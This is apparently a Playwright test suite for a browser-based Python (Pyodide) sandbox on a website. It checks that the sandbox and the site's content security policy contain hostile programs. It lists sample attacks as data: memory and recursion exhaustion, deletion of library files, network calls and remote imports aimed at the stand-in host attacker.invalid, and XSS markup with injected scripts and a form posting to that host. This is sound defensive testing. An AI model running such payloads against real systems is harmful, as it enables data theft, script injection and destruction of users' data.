"""Programs that mean harm, or look like it: each is contained, and the next one runs.

All run in one visit, under the site's policy. What they may not do is checked at the end for
all of them: no request but for the site's own files, no dialog, nothing kept, the page as it was.
"""

import re

import pytest
from playwright.sync_api import TimeoutError

from tests.site.conftest import opened
from tests.site.test_runner import BLOCK, LONG_MS, PAGE, SHORT, Bar
from tools.runner import PARTS

pytestmark = pytest.mark.timeout(900)  # for a machine that is busy with other things

AWAY = "https://attacker.invalid/"

# name: (program, what its status or its output must match)
TAKES = {
    "endless recursion": ("def f(): f()\nf()", "RecursionError"),
    "recursion without a limit": (
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        "RecursionError|Stopped: the interpreter ended",
    ),
    "memory, little by little": ("x = []\nwhile True: x.append(bytes(10**7))", "MemoryError"),
    "memory, at once": ("bytearray(1_500_000_000)", "MemoryError"),
    "a file that fills the memory": (
        "with open('/tmp/x', 'wb') as f:\n    while True: f.write(bytes(10**7))",
        "No space left on device",
    ),
    "a file that is long at once": (
        "with open('/tmp/x', 'wb') as f:\n    f.truncate(10**9)",
        "No space left on device",
    ),
    "a deep expression": ("eval('(' * 100_000)", "SyntaxError|MemoryError"),
    "one line that is too long": ("print('x' * 50_000_000)", "more than 100,000 characters"),
    "a flood of errors": (
        "import sys\nwhile True: print('x' * 99, file=sys.stderr)",
        "more than 100,000 characters",
    ),
    "an error as long as a book": ("raise ValueError('x' * 10**6)", "ValueError: x{200}"),
}
STOPPED = {  # what only Stop ends
    "a loop that catches everything": (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "Running",
    ),
    "a regular expression without end": (
        "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
        "Running",
    ),
    "a sleep without end": ("import time\ntime.sleep(10**8)", "Running"),
    "an await without end": ("import asyncio\nawait asyncio.sleep(10**8)", "Running"),
}
BREAKS = {  # what it leaves for the next, which must run
    "exit": ("import sys\nsys.exit('bye')", "SystemExit: bye"),
    "a hard exit": ("import os\nos._exit(3)", "Ended|Stopped|Finished"),
    "an abort": ("import os\nos.abort()", "Ended|Stopped"),
    "other builtins": (
        "import builtins\nbuiltins.len = lambda x: 42\nbuiltins.print = None\n"
        "del builtins.__import__, builtins.int",
        "Finished",
    ),
    "no builtins": ("import builtins\nvars(builtins).clear()", "Ended|Stopped|Finished"),
    "no modules": ("import sys\nsys.modules.clear()", "Ended|Stopped|Finished"),
    "other streams": (
        "import sys\nsys.stdout = sys.stderr = sys.__stdout__ = None",
        "Finished",
    ),
    "closed streams": ("import sys\nsys.stdout.close()", "Finished|Ended"),
    "closed descriptors": ("import os\nos.close(1)\nos.close(2)", "Finished|Ended"),
    "another host": ("import host\nhost.run = host.check = host.fresh = None", "Ended|Finished"),
    "no library": ("import os, shutil\nshutil.rmtree(os.path.expanduser('~/lib'))", "Finished"),
    "another library": (
        "import os\nopen(os.path.expanduser('~/lib/snippets/simnet.py'), 'w').write('1 / 0')",
        "Finished",
    ),
    "a task that will not end": (
        "import asyncio\nasync def stay():\n    while True:\n        try: await asyncio.sleep(0)\n"
        "        except asyncio.CancelledError: pass\n        print('ghost')\n"
        "kept = asyncio.ensure_future(stay())",
        "Finished",
    ),
    "a timer that goes on": (
        "import js\nfrom pyodide.ffi import create_proxy\n"
        "js.setInterval(create_proxy(lambda *_: print('ghost')), 1)",
        "Finished",
    ),
    "a tracer": ("import sys\nsys.settrace(lambda *_: 1 / 0)", "Ended|Finished"),
    "an error that cannot be told": (
        "class E(BaseException):\n    def __str__(self): raise self\nraise E",
        "Ended",
    ),
    "memory that is not ours": (
        "import ctypes\nctypes.string_at(2**32 - 64, 64)",
        "Ended|Stopped",
    ),
}
REACHES = {
    "input": ("input()", "EOFError|OSError"),
    "a thread": ("import threading\nthreading.Thread(target=print).start()", "RuntimeError"),
    "a process": ("import subprocess\nsubprocess.run(['ls'])", "OSError"),
    "a fork": ("import os\nos.fork()", "OSError|AttributeError"),
    "a shell": ("import os\nprint(os.system('ls'))", "-1|OSError|AttributeError|\n"),
    "a socket": (
        "import socket\nsocket.create_connection(('attacker.invalid', 80), 1)",
        "Error",
    ),
    "urllib": (f"import urllib.request\nurllib.request.urlopen('{AWAY}')", "Error"),
    "pyfetch": (f"from pyodide.http import pyfetch\nawait pyfetch('{AWAY}')", "Error"),
    "open_url": (f"from pyodide.http import open_url\nopen_url('{AWAY}')", "Error"),
    "a package": ("import micropip\nawait micropip.install('x')", "ModuleNotFoundError"),
    "a package of Pyodide": (
        "import pyodide_js\nawait pyodide_js.loadPackage('numpy')\nimport numpy",
        "Error",
    ),
    "the page": ("from js import document", "ImportError"),
    "the network of the worker": ("from js import fetch", "ImportError"),
    "the storage of the worker": ("from js import indexedDB", "ImportError"),
    "messages of its own": ("from js import postMessage", "ImportError"),
    "text that becomes code": (
        f"from pyodide.code import run_js\nrun_js(\"fetch('{AWAY}')\")",
        "unsafe-eval|EvalError|Error",
    ),
    "a function from text": (
        "import js\njs.Object.constructor('return self')()",
        "unsafe-eval|EvalError|Error",
    ),
    "a timer from text": (
        f"import js\njs.setTimeout(\"import('{AWAY}')\", 0)\nprint('asked')",
        "asked|Error",
    ),
    "a window": (f"import webbrowser\nwebbrowser.open('{AWAY}')", "Error|Finished"),
}
WRITES = {
    "markup": ("print('<img src=x onerror=alert(1)><script>alert(2)</script>')", "<img src=x"),
    "half a character": ("print('\\ud800')", "UnicodeEncodeError"),
    "signs that steer": ("print('\\x1b[2J\\x00\\u202e' + 'x')", "x"),
}
POLICY = re.compile("Content Security Policy|unsafe-eval|violates")
# What Pyodide writes to the console when its interpreter dies.
DEATH = re.compile(
    "fatal error|call stack|out of bounds|wasm|unreachable|pyodide|excepthook|Aborted|terminated with exit"
)

# A figure that the page's own drawing module is made to return.
PICTURE = """
import tools.figures.space_time as module

class Hostile:
    def fragment(self, slug, source):
        return '''<figure class="run md-overlay" id="x" onclick="alert(1)" style="position:fixed">
<script>alert(2)</script><img src="https://attacker.invalid/1"><iframe src="https://attacker.invalid/2">
</iframe><style>body{display:none}</style><a href="javascript:alert(3)">link</a>
<svg class="wide" onload="alert(4)" viewBox="0 0 9 9"><script>alert(5)</script>
<image href="https://attacker.invalid/3"/><use href="https://attacker.invalid/4#x"/>
<foreignObject><p>foreign</p></foreignObject><animate attributeName="x"/>
<rect width="9" height="9" fill="url(https://attacker.invalid/5)" style="fill:url(#y)"/>
<text x="1">kept</text></svg>
<figcaption>kept too <small>and <form action="https://attacker.invalid/6"><input></form></small>
</figcaption></figure>'''
module.draw = lambda *_, **__: Hostile()
"""
SHOWN = """figure => [figure, ...figure.querySelectorAll("*")].map(each =>
  [each.localName, [...each.attributes].map(({ name, value }) => `${name}=${value}`).sort().join(" ")])"""


@pytest.fixture(scope="module")
def visit(browser, base_url):
    with opened(browser, base_url, strict=True) as (tab, problems):
        tab.set_default_timeout(LONG_MS)
        dialogs = []
        tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        yield tab, problems, dialogs


def contained(problems):
    """What went wrong but for the words of the policy, and of an interpreter that died."""
    return [line for line in problems if not POLICY.search(line) and not DEATH.search(line)]


def attempt(bar, name, program, wanted):
    """Run a program, and after one that breaks things a harmless one: what was wrong."""
    found = []
    bar.write(program)
    bar.press("Run")
    if name in STOPPED:
        bar.until("Running")
        bar.press("Stop")
        bar.until("Stopped.")
    else:
        bar.until("Finished|Ended|Stopped")
        said = bar.status.inner_text() + "\n" + bar.text()
        if not re.search(wanted, said):
            found.append(f"{said[:200]!r} and not {wanted!r}")
    if name in BREAKS or name == list(WRITES)[-1]:
        bar.write("from snippets.simnet import Simulation\nprint(len('four'), int('2'))")
        after = bar.run("Finished|Ended|Stopped")
        if after != "4 2\n":
            found.append(f"the next run: {bar.status.inner_text()!r} {after[:200]!r}")
    return found


def test_hostile_programs_are_contained(visit, base_url):
    tab, problems, dialogs = visit
    tab.goto(f"{base_url}{SHORT}/")
    bar = Bar(tab, BLOCK)
    bar.edit()
    article = (
        "() => document.querySelector('article > h1').outerHTML + document.title + document.cookie"
    )
    before, stored = tab.evaluate(article), tab.evaluate("JSON.stringify(localStorage)")
    failed = []
    every = TAKES | STOPPED | BREAKS | REACHES | WRITES
    for name, (program, wanted) in every.items():
        try:
            found = attempt(bar, name, program, wanted)
        except TimeoutError as error:
            tab.reload()
            bar.edit()
            found = [str(error).split("\n")[0]]
        failed += [f"{name}: {line}" for line in found]
    assert not failed, "\n".join(failed)
    assert not contained(problems), "\n".join(contained(problems))
    assert not dialogs
    assert tab.evaluate(article) == before
    assert tab.evaluate("JSON.stringify(localStorage)") == stored


def test_a_hostile_picture_leaves_only_its_shapes_and_words(visit, base_url):
    tab, problems, dialogs = visit
    problems.clear()
    tab.goto(f"{base_url}{PAGE}/")
    bar = Bar(tab)
    bar.write(PICTURE + bar.edit().input_value().replace("from __future__", "# "))
    bar.run()
    shown = bar.panel.locator("figure").first.evaluate(SHOWN)
    assert [name for name, _ in shown] == ["figure", "svg", "rect", "text", "figcaption", "small"]
    assert [re.sub(r"yours\\d+-", "", attributes) for _, attributes in shown][1:4] == [
        "class=wide viewBox=0 0 9 9",
        "fill= height=9 width=9",
        "x=1",
    ]
    assert re.fullmatch(r"class=run id=yours\d+-x", shown[0][1])
    assert "kept too" in bar.panel.locator("figcaption").first.inner_text()
    assert not contained(problems) and not dialogs


def test_the_policy_holds_in_the_page_and_in_its_workers(visit, base_url):
    """Each of these would succeed without it: the check of the policy can fail."""
    tab, problems, _ = visit
    tab.goto(f"{base_url}{SHORT}/")
    Bar(tab, BLOCK)
    attempts = """async () => {
      const failed = []
      await new Promise(resolve => setTimeout(resolve)) // what a test evaluates itself may use eval
      const attempt = async (name, act) => { try { await act(); failed.push(name) } catch {} }
      await attempt("eval", () => (0, eval)("1"))
      await attempt("Function", () => new Function("return 1")())
      await attempt("fetch", () => fetch("https://attacker.invalid/"))
      await attempt("import", () => import("https://attacker.invalid/x.js"))
      const inline = document.createElement("script")
      inline.textContent = "window.inline = true"
      document.head.append(inline)
      if (window.inline) failed.push("inline script")
      const code = `
        const failed = []
        try { eval("1"); failed.push("eval in a worker") } catch {}
        fetch("https://attacker.invalid/").then(() => 0, error => error)
        self.addEventListener("securitypolicyviolation", event => {
          if (event.effectiveDirective === "connect-src") postMessage(failed)
        })`
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })))
      const answer = await new Promise(resolve => { worker.onmessage = event => resolve(event.data) })
      return [...failed, ...answer]
    }"""
    assert tab.evaluate(attempts) == []
    stopped = [line for line in problems if POLICY.search(line)]
    assert len(stopped) >= 6
    assert not [line for line in contained(problems) if "another host" not in line]
    problems.clear()


def test_the_worker_that_runs_python_is_made_under_the_policy(site):
    """From a blob, so that it inherits the page's policy where a host sends no headers."""
    assert "ui.js" in PARTS
    folder = next(path.parent for path in site.glob("run/*/ui.js"))
    assert "new Blob" in (folder / "ui.js").read_text("utf-8")
